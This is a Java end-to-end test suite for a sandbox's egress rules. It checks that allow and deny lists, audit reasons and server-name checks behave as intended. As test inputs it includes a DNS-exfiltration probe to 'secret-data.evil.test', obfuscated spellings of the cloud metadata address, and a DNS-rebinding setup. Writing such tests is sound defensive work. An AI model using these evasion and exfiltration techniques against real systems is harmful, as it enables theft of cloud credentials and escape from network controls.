package dev.declaw.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.declaw.e2e.WholeSystem.Rig;
import dev.declaw.e2e.WholeSystem.TestSandbox;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Each kind of rule, allowed and denied, from a real guest to a real origin, with the reason that the audit gives.
@ExtendWith(WholeSystem.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EgressRulesTest {
    private final Rig rig;

    EgressRulesTest(Rig rig) {
        this.rig = rig;
    }

    private static String get(String host) {
        return "GET /hello HTTP/1.1\r\nHost: " + host + "\r\n\r\n";
    }

    @ParameterizedTest(name = "network {0}: {1} is {2}")
    @CsvSource(
            delimiter = ';',
            value = {
                "{'allow_out': ['api.example.test']} ; api.example.test ; reached",
                "{'allow_out': ['api.example.test']} ; other.example.test ; not_in_allow_list",
                "{'allow_out': ['*.example.test']} ; deep.sub.example.test ; reached",
                "{'allow_out': ['*.sub.example.test']} ; api.example.test ; not_in_allow_list",
                "{'allow_out': ['~(api|deep[.]sub)[.]example[.]test']} ; deep.sub.example.test ; reached",
                "{'allow_out': ['api.example.test'], 'deny_out': ['0.0.0.0/0']} ; api.example.test ; reached",
                "{'allow_out': ['api.example.test'], 'deny_out': ['*']} ; other.example.test ; denied_by_rule",
                "{'deny_out': ['other.example.test']} ; other.example.test ; denied_by_rule",
                "{'deny_out': ['0.0.0.0/0']} ; api.example.test ; denied_by_rule"
            })
    @Tag("B029") @Tag("B034")
    void domainRulesDecideWhichNamesAreReached(String network, String host, String expected) {
        try (TestSandbox sandbox = rig.sandbox("{'network': " + network + "}")) {
            JsonNode report = sandbox.probeUnverified(host, 443, host, get(host));
            if (expected.equals("reached")) {
                assertThat(report.path("error").textValue()).isEmpty();
                assertThat(report.path("response").textValue()).startsWith("HTTP/1.1 200");
                assertThat(sandbox.denials()).isEmpty();
            } else {
                assertThat(report.path("response").textValue()).doesNotContain("HTTP/1.1 200");
                assertThat(sandbox.denials()).contains(expected);
                assertThat(rig.api.connections() + rig.other.connections() + rig.deep.connections()).isZero();
                assertThat(rig.world.names().questions()).as("upstream questions").doesNotContain(host);
            }
        }
    }

    @Test
    @Tag("B012")
    void aNameThatIsDeniedIsNeverAskedUpstream() {
        try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['api.example.test']}}")) {
            sandbox.run("getent hosts canary-4711.secret-data.evil.test; getent hosts canary-4712.example.test");
            assertThat(rig.world.names().questions()).noneMatch(name -> name.contains("canary-471"));
            assertThat(sandbox.denials()).contains("not_in_allow_list");
        }
    }

    @Test
    void addressRulesOpenAddressesAndNothingElse() {
        String address = rig.world.lastAddress().getHostAddress();
        try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['" + address + "']}}")) {
            JsonNode reached = sandbox.probe(address, 443, "deep.sub.example.test", get("deep.sub.example.test"));
            assertThat(reached.path("tls").booleanValue()).as(reached.toString()).isFalse(); // the world's CA is not trusted in the guest
            assertThat(rig.deep.connections()).as("the rule opened the address").isPositive();
            JsonNode refused = sandbox.probe("203.0.113.250", 443, null, "x");
            assertThat(refused.path("response").textValue()).isEmpty();
            assertThat(sandbox.denials()).containsAnyOf("address_not_public", "name_required");
        }
    }

    @Test
    @Tag("B028")
    void aBareAddressIsRefusedWhenOnlyNamesAreAllowed() {
        String address = rig.world.lastAddress().getHostAddress();
        try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['plain.example.test']}}")) {
            JsonNode report = sandbox.probe(address, 443, null, get(address + ":443"));
            assertThat(report.path("response").textValue()).doesNotContain("HTTP/1.1 200");
            assertThat(sandbox.denials()).containsAnyOf("address_not_public", "name_required");
            assertThat(rig.deep.connections()).isZero();
        }
    }

    @Test
    @Tag("B018") @Tag("B019")
    void theMetadataServiceIsOutOfReachInEverySpelling() {
        List<String> spellings = List.of(
                "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
                "::ffff:169.254.169.254", "metadata.google.internal");
        try (TestSandbox sandbox = rig.sandbox(
                "{'network': {'allow_out': ['169.254.169.254', '169.254.0.0/16', 'metadata.google.internal', '*']}}")) {
            for (String host : spellings) {
                int before = sandbox.denials().size();
                String authority = host.startsWith("meta") ? host : "169.254.169.254";
                JsonNode report = sandbox.probe(
                        host, 80, null, "GET /latest/meta-data/ HTTP/1.1\r\nHost: " + authority + "\r\n\r\n");
                assertThat(report.path("response").textValue()).as(host).doesNotContain("HTTP/1.1 200");
                List<String> denials = sandbox.denials();
                if (report.path("connected").booleanValue()) {
                    assertThat(denials.subList(before, denials.size())).as(host).contains("metadata_endpoint");
                }
            }
            assertThat(sandbox.denials()).hasSizeGreaterThanOrEqualTo(spellings.size() - 1);
        }
    }

    @Test
    @Tag("B014") @Tag("B015") @Tag("B019")
    void aNameThatResolvesToTheMetadataServiceIsRefusedAlthoughARuleAllowsIt() throws Exception {
        var metadata = java.net.InetAddress.getByAddress(new byte[] {(byte) 169, (byte) 254, (byte) 169, (byte) 254});
        rig.world.names().answer("rebind.example.test", () -> java.util.List.of(metadata));
        try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['rebind.example.test']}}")) {
            JsonNode report = sandbox.probe("rebind.example.test", 80, null, get("rebind.example.test"));
            assertThat(report.path("response").textValue()).startsWith("HTTP/1.1 403");
            assertThat(sandbox.denials()).contains("metadata_endpoint");
        }
    }

    @Test
    @Tag("B132")
    void aDenialTellsTheAgentWhyAndNamesItsAuditEvent() throws Exception {
        try (TestSandbox sandbox = rig.sandbox("{'network': {'allow_out': ['api.example.test']}}")) {
            JsonNode report = sandbox.probe("api.example.test", 80, null, get("plain.example.test"));
            String response = report.path("response").textValue();
            assertThat(response).startsWith("HTTP/1.1 4");
            JsonNode body = dev.declaw.e2e.platform.Api.JSON.readTree(response.substring(response.indexOf("\r\n\r\n")));
            assertThat(body.path("error").textValue()).isEqualTo("request blocked by security policy");
            assertThat(body.path("code").textValue()).isNotBlank();
            assertThat(body.path("reason").textValue()).isNotBlank();
            String audit = body.path("audit_id").textValue();
            assertThat(sandbox.api().audit(sandbox.id(), "").findValuesAsText("id")).contains(audit);
        }
    }

    @Test
    @Tag("B035")
    void aServerNameThatIsNotTheHostIsRefused() {
        try (TestSandbox sandbox = rig.sandbox(
                "{'network': {'allow_out': ['api.example.test', 'other.example.test']}, 'security': {'pii': {'enabled': true}}}")) {
            JsonNode report = sandbox.probe("api.example.test", 443, "api.example.test", get("other.example.test"));
            assertThat(report.path("response").textValue()).startsWith("HTTP/1.1 421");
            assertThat(sandbox.denials()).contains("name_mismatch");
            assertThat(rig.other.received()).isEmpty();
            assertThat(rig.api.received()).isEmpty();
        }
    }
}
